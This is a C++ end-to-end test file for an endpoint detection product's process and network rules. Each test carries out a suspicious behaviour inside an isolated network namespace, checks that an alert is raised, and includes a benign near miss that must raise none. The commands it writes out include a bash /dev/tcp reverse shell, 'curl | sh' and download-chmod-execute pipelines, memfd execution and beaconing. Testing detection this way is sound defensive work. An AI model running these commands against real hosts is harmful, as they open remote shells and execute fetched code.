// The built-in detections of the process and network families, end to end:
// each test performs the behaviour for real on this machine (a network
// peer in a namespace of its own), with the real sensor uploading to the
// real collector, and reads the alert back from the collector's admin API;
// and performs a benign near miss that must raise nothing.
//
// The near misses come first: every behaviour of a test shares the test's
// process tree, so a false positive after the true one would only add to
// its count. After a true alert is checked it is closed, so that the next
// behaviour of the same rule raises an alert of its own.
#include <unistd.h>

#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>

#include "tests/root/detection_harness.h"

namespace yagura::test {
namespace {

const std::string kActor = YAGURA_ACTOR_BIN;

// What every alert must show: the host's tags, a summary, the triggering
// events, and the process that did it in the lineage with its command line.
void check_alert(const Json& alert, const std::string& command_line_part) {
  INFO(alert.dump(2));
  CHECK(alert["host"]["tags"]["team"] == "payments");
  CHECK(alert["host"]["tags"]["role"] == "web");
  CHECK(!alert["summary"].get<std::string>().empty());
  CHECK(!alert["events"].empty());
  CHECK(alert["count"].get<uint64_t>() >= 1);
  CHECK(!lineage_entry(alert, command_line_part).is_null());
}

// Exactly one open alert of `rule` about this test, checked, then closed.
Json one_alert(DetectionRig& rig, const std::string& rule, const std::string& command_line_part) {
  REQUIRE(!rig.wait_for_alerts(rule).empty());
  rig.settle();  // a late duplicate would show now
  const std::vector<Json> alerts = rig.alerts(rule);
  INFO(Json(alerts).dump(2));
  REQUIRE(alerts.size() == 1);
  check_alert(alerts[0], command_line_part);
  rig.close_alerts(rule);
  return alerts[0];
}

void no_alert(DetectionRig& rig, const std::string& rule) {
  rig.settle();
  const std::vector<Json> alerts = rig.alerts(rule);
  INFO(Json(alerts).dump(2));
  CHECK(alerts.empty());
}

// The events of an alert of this exec.
bool has_event(const Json& alert, const std::string& type, const std::string& exe_suffix) {
  for (const Json& e : alert.value("events", Json::array()))
    if (e["type"] == type && e["process"].value("exe", "").ends_with(exe_suffix)) return true;
  return false;
}

// A listener in the namespace: COUNT connections (0: until killed), each
// sent `text`; waits until it listens and returns its port.
int serve_in(TestNetns& ns, const TempDir& dir, int port, int count, const std::string& text) {
  static int n = 0;
  const std::string ready = dir.path() + "/serve-" + std::to_string(++n);
  ns.spawn(
      {kActor, "serve", ns.remote_ip(), std::to_string(port), std::to_string(count), text, ready});
  return wait_ready_file(ready);
}

}  // namespace

TEST_CASE("detection: reverse shells, and shells that are not", "[detect][root]") {
  DetectionRig rig;
  TestNetns ns;
  TempDir dir;

  // Near misses: a shell reading a pipe; a shell under a process that
  // connected to loopback only.
  rig.run("echo id | bash");
  {
    const std::string ready = dir.path() + "/loopback";
    const pid_t server = rig.spawn({kActor, "serve", "127.0.0.1", "0", "1", "", ready});
    const int port = wait_ready_file(ready);
    rig.run(kActor + " connect-then-exec 127.0.0.1 " + std::to_string(port) +
            " /bin/sh -c 'echo yagura-e2e-loopback'");
    CHECK(rig.wait_exit(server) == 0);
  }
  no_alert(rig, "reverse-shell.*");

  // bash -i with its stdio on a connection; the listener types "exit".
  const int port = serve_in(ns, dir, 4444, 1, "exit\n");
  REQUIRE(port == 4444);
  rig.run("bash -c 'bash -i >& /dev/tcp/" + ns.remote_ip() + "/4444 0>&1'");
  const Json bash = one_alert(rig, "reverse-shell.*", "bash -i");
  CHECK(bash["severity"] == "critical");
  CHECK(bash["lineage"][0]["command_line"] == "bash -i");
  CHECK(has_event(bash, "exec", "/bash"));

  // A process that connected out starting a shell (Python or Perl style).
  const int port2 = serve_in(ns, dir, 0, 1, "");
  rig.run(kActor + " connect-then-exec " + ns.remote_ip() + " " + std::to_string(port2) +
          " /bin/sh -c 'echo yagura-e2e-revshell'");
  const Json after = one_alert(rig, "reverse-shell.*", "echo yagura-e2e-revshell");
  CHECK(after["rule"] == "reverse-shell.after-connect");
  CHECK(!lineage_entry(after, "connect-then-exec").is_null());
  CHECK(has_event(after, "network", "/yagura-test-actor"));
}

TEST_CASE("detection: a network service starting a shell", "[detect][root]") {
  DetectionRig rig;
  TestNetns ns;
  TempDir dir;
  // A service on this host answering one client of the namespace by
  // running `program`.
  auto serve_one = [&](const std::string& name, const std::vector<std::string>& program) {
    const std::string ready = dir.path() + "/" + name;
    std::vector<std::string> argv = {kActor, "serve-exec", ns.local_ip(), "0", ready};
    argv.insert(argv.end(), program.begin(), program.end());
    const pid_t server = rig.spawn(argv);
    const int port = wait_ready_file(ready);
    CHECK(ns.run({kActor, "connect", ns.local_ip(), std::to_string(port), "4"}) == 0);
    CHECK(rig.wait_exit(server) == 0);
  };

  serve_one("helper", {"/usr/bin/id"});  // near miss: not a shell
  no_alert(rig, "service.shell-or-download");

  serve_one("shell", {"/bin/sh", "-c", "id"});
  const Json alert = one_alert(rig, "service.shell-or-download", "sh -c id");
  CHECK(alert["lineage"][0]["command_line"] == "/bin/sh -c id");
  CHECK(!lineage_entry(alert, "serve-exec").is_null());
}

TEST_CASE("detection: download and execute, curl | sh", "[detect][root]") {
  DetectionRig rig;
  TestNetns ns;
  TempDir www;
  std::filesystem::copy_file("/bin/true", www.path() + "/f");
  std::ofstream(www.path() + "/script") << "echo yagura-e2e-piped\n";
  const std::string ready = www.path() + "/ready";
  ns.spawn({kActor, "http-serve", ns.remote_ip(), "0", www.path(), ready});
  const std::string base =
      "http://" + ns.remote_ip() + ":" + std::to_string(wait_ready_file(ready));
  const std::string kept = "/tmp/yagura-e2e-dl-" + std::to_string(getpid());
  const std::string program = "/usr/local/bin/yagura-e2e-dl-" + std::to_string(getpid());

  // Near misses: a shell reading a pipe of something else; a download never
  // run.
  CHECK(rig.run("echo 'echo hi' | sh") == "hi\n");
  rig.run("curl -sf -o " + kept + " " + base + "/f");
  CHECK(std::filesystem::file_size(kept) == std::filesystem::file_size("/bin/true"));
  no_alert(rig, "download-execute.*");
  std::filesystem::remove(kept);

  CHECK(rig.run("curl -sf " + base + "/script | sh") == "yagura-e2e-piped\n");
  const Json piped = one_alert(rig, "download-execute.*", "curl -sf " + base + "/script");
  CHECK((piped["rule"] == "download-execute.piped-to-shell" ||
         piped["rule"] == "download-execute.shell-reading-download"));
  CHECK(has_event(piped, "exec", "/curl"));

  rig.run("curl -sf -o " + program + " " + base + "/f && chmod +x " + program + " && " + program);
  std::filesystem::remove(program);
  // The alert's process is chmod or the program itself (bash runs the
  // last command of a list in its own process).
  const Json file = one_alert(rig, "download-execute.*", program);
  CHECK((file["rule"] == "download-execute.downloaded-file" ||
         file["rule"] == "download-execute.written-after-connect"));
  CHECK(has_event(file, "file", "/curl"));
}

TEST_CASE("detection: programs run from /tmp or from memory", "[detect][root]") {
  DetectionRig rig;
  const std::string copy = "/tmp/yagura-e2e-x-" + std::to_string(getpid());

  rig.run("/usr/bin/true");  // near miss for both
  no_alert(rig, "exec.from-temporary-directory");
  no_alert(rig, "exec.fileless");

  rig.run("cp /bin/true " + copy + " && " + copy + " yagura-e2e-tmp");
  std::filesystem::remove(copy);
  const Json tmp = one_alert(rig, "exec.from-temporary-directory", copy + " yagura-e2e-tmp");
  CHECK(tmp["lineage"][0]["exe"] == copy);

  rig.run(kActor + " memfd-exec /bin/true yagura-e2e-memfd");
  const Json memfd = one_alert(rig, "exec.fileless", "yagura-e2e-memfd");
  CHECK(memfd["lineage"][0]["command_line"] == "yagura-e2e-memfd");
  CHECK(memfd["severity"] == "critical");
}

TEST_CASE("detection: connections to backdoor ports", "[detect][root]") {
  DetectionRig rig;
  TestNetns ns;
  TempDir dir;

  // Near miss: the same port on loopback.
  const std::string ready = dir.path() + "/loopback";
  const pid_t local = rig.spawn({kActor, "serve", "127.0.0.1", "4444", "1", "", ready});
  REQUIRE(wait_ready_file(ready) == 4444);
  rig.run(kActor + " connect 127.0.0.1 4444 0");
  CHECK(rig.wait_exit(local) == 0);
  no_alert(rig, "c2.suspicious-port");

  REQUIRE(serve_in(ns, dir, 4444, 1, "") == 4444);
  rig.run(kActor + " connect " + ns.remote_ip() + " 4444 0 yagura-e2e-port");
  const Json alert = one_alert(rig, "c2.suspicious-port", "yagura-e2e-port");
  CHECK(has_event(alert, "network", "/yagura-test-actor"));
}

TEST_CASE("detection: beaconing", "[detect][root]") {
  DetectionRig rig;
  TestNetns ns;
  TempDir dir;
  const std::string port = std::to_string(serve_in(ns, dir, 0, 0, ""));

  // Near miss: seven connections at irregular intervals.
  rig.run(kActor + " connect-every " + ns.remote_ip() + " " + port +
          " 200,2500,400,3000,700,1800 yagura-e2e-irregular");
  no_alert(rig, "c2.beaconing");

  rig.run(kActor + " connect-every " + ns.remote_ip() + " " + port +
          " 1000,1000,1000,1000,1000,1000 yagura-e2e-beacon");
  const Json alert = one_alert(rig, "c2.beaconing", "yagura-e2e-beacon");
  CHECK(alert["lineage"][0]["exe"].get<std::string>().ends_with("/yagura-test-actor"));
}

TEST_CASE("detection: first contact with a destination", "[detect][root]") {
  RigOptions options;
  options.rules_yaml = builtin_rules_with({{"params: {learning: 24h}", "params: {learning: 1s}"}});
  DetectionRig rig(options);
  TestNetns ns;
  TempDir dir;
  const std::string port = std::to_string(serve_in(ns, dir, 0, 2, ""));
  // Nothing is rare while the collector learns the fleet (a second here,
  // from the host's first batch).
  rig.settle();

  rig.run(kActor + " connect " + ns.remote_ip() + " " + port + " 0 yagura-e2e-first");
  const Json first = one_alert(rig, "c2.rare-destination", "yagura-e2e-first");
  CHECK(first["severity"] == "low");
  CHECK(first.dump().find(ns.remote_ip()) != std::string::npos);

  // Near miss: another process, the same destination, after the alert was
  // closed: a new alert would show.
  rig.run(kActor + " connect " + ns.remote_ip() + " " + port + " 0 yagura-e2e-again");
  no_alert(rig, "c2.rare-destination");
}

}  // namespace yagura::test
